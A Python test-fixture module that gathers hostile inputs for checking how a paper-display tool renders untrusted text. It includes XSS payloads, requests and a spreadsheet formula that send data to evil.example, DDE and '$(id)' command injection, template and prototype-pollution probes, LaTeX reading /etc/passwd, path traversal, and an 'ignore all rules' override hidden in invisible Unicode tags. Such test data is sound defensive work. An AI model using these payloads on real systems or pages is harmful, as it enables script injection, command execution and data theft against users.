"""Texts made to be run, obeyed or followed by whatever shows them; what runs sets ``window.__tripped``."""

from __future__ import annotations

EVIL = "https://evil.example"
"""An address that no product may link to, and no page may ask."""
_RUN = "window.__tripped=1"

MARKUP = {
    "script": f"<script>{_RUN}</script>",
    "end of a script": f"</script><script>{_RUN}</script>",
    "end of JSON": f'"}}]}}</script><script>{_RUN}</script>',
    "handler": f'<img src=x onerror="{_RUN}">',
    "handler without quotes": f"<img src=x onerror={_RUN}>",
    "end of an attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "end of a single attribute": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    "svg": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg script": f"</title></style></textarea><svg><script>{_RUN}</script></svg>",
    "mathml": f'<math><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    "frame": f'<iframe srcdoc="<script>parent.{_RUN}</script>" src="{EVIL}/frame"></iframe>',
    "picture elsewhere": f'<img src="{EVIL}/pixel.png"><link rel=stylesheet href="{EVIL}/a.css">',
    "base": f'<base href="{EVIL}/"><meta http-equiv=refresh content="0;url={EVIL}/">',
    "style": f'<style>@import "{EVIL}/a.css"; * {{ background: url({EVIL}/b.png) }}</style>',
    "comment": f"<!--><script>{_RUN}</script-->",
    "entity": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62;",
    "clobbering": '<form id="figures"><input name=textContent></form><a id=Plotly name=newPlot href=x>y</a>',
}
LINKS = {
    "javascript link": f'<a href="javascript:{_RUN}">read this</a>',
    "javascript link in disguise": f'<a href=" java&#x0A;script:{_RUN}">read this</a>',
    "data link": f'<a href="data:text/html,<script>opener.{_RUN}</script>">read this</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">read this</a>',
    "link elsewhere": f'<a href="{EVIL}/login" target="_blank">read this</a>',
    "Markdown link": f"[read this](javascript:{_RUN}) ![x]({EVIL}/x.png)",
    "plain address": f"see {EVIL}/paper and www.evil.example",
}
TEMPLATES = {
    "plotly markup": f"<b>bold</b><br><i>slanted</i><sub>low</sub><sup>high</sup>"
    f'<span style="color:red">red</span><a href="{EVIL}/plotly">on</a>',
    "hover template": "%{x} %{customdata[0]} %{text} %{_xother} <extra>%{meta}</extra>",
    "d3 format": "%{y:,.0f} %{x|%Y-%m-%d} {:.2%} %s %d %(name)s %n",
    "LaTeX": rf"$\href{{javascript:{_RUN}}}{{x}}$ $$\unicode{{x3c}}$$ \(\style{{color:red}}{{x}}\)"
    r" \input{/etc/passwd} \write18{id}",
    "Jinja": "{{ 7 * 7 }}{% raw %}{{ config }}{# gone #}{{ ''.__class__.__mro__ }}",
    "format string": "{0.__class__} {provenance} ${HOME} `id` $(id) %HOME%",
    "prototype": '__proto__ constructor prototype {"__proto__": {"polluted": true}}',
}
CELLS = {
    "formula": f'=HYPERLINK("{EVIL}/?q="&A1,"read this")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "quoted": '"=1+1","=2+2"',
}
UNSEEN = {
    "direction": "safe \u202egnp.exe\u202c \u2066isolated\u2069 \u061cmark",
    "zero width": "ad\u200bmin \ufeffstart \u2060join",
    "tags": "a name" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "accents": "Z" + "\u0335\u0324" * 400 + "algo",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \x9b2J bell\x07 back\x08\x08\x08\x08space",
    "expanding": "\ufdfa" * 40,
    "long word": "x" * 400,
}
PATHS = {
    "up": "../../../escaped",
    "from the root": "/tmp/escaped",
    "device": "CON",
    "slash": "a/b\\c",
    "dots": "..",
    "hidden": ".bashrc",
    "option": "--reports=/tmp/escaped",
    "too long": "long name " * 30,
    "spaces": "  name with spaces  . ",
}

TEXTS = {**MARKUP, **LINKS, **TEMPLATES, **CELLS, **UNSEEN, **PATHS}
"""All of them, by what they try."""

ADDRESSES = (
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "vbscript:msgbox(1)",
    f"{EVIL}/paper",
    "http://huggingface.co/papers/2503.00001",
    "https://huggingface.co.evil.example/papers/2503.00001",
    "https://user:word@arxiv.org/abs/2503.00001",
    f'https://arxiv.org/abs/1" onmouseover="{_RUN}',
    "//evil.example/paper",
    "file:///etc/passwd",
    "https://arxiv.org\\@evil.example/",
    "https://аrxiv.org/abs/2503.00001",
)
"""What a paper may state as its page."""

NAMES = (
    f"<img src=x onerror={_RUN}>",
    f"<a href=javascript:{_RUN}>theme</a>",
    "</script><svg onload=top.__tripped=1>",
    "=cmd|'/C calc'!A0 theme",
    "{{7*7}} %{x} $x^2$ theme",
    "../../escaped theme",
    "safe \u202egnp.exe theme",
    "\x1b[31mred\x1b[0m theme",
    "<b>bold</b><br>theme",
    "@SUM(1+1) theme",
)
"""What a model may answer when it is asked for the name of a theme."""
